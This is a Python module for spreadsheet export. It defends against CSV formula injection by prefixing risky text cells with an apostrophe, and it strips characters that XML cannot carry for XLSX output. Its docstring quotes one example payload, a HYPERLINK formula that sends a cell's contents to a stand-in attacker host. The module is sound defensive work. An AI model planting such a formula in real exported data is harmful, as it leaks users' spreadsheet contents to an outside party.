"""Cells that are safe to open: exported text never runs as a formula or breaks a file.

A SKU, a title or a buyer's name comes from sellers, marketplaces and buyers, so any of
them can be ``=HYPERLINK("https://evil.example/?"&A1,"click")``. Spreadsheet programs
read a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
as a formula. Following OWASP's advice on CSV injection, such a text cell is written with
a leading apostrophe, which the spreadsheet shows as text and does not evaluate. Amounts
are never passed through here: they are written as numbers (CSV: plain decimals).

XML 1.0, which XLSX is made of, cannot carry most control characters, U+FFFE, U+FFFF or
lone surrogates; openpyxl refuses them and a hand-made file would be corrupt. They are
replaced by U+FFFD (the replacement character), so the cell still shows that something
was there.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def csv_text(value: str) -> str:
    """A text cell for CSV: prefixed with ``'`` where a spreadsheet would see a formula."""
    return "'" + value if value.startswith(_FORMULA_START) else value


def xml_text(value: str) -> str:
    """A text cell for XLSX: characters XML cannot carry replaced by U+FFFD."""
    return _NOT_IN_XML.sub("\ufffd", value)
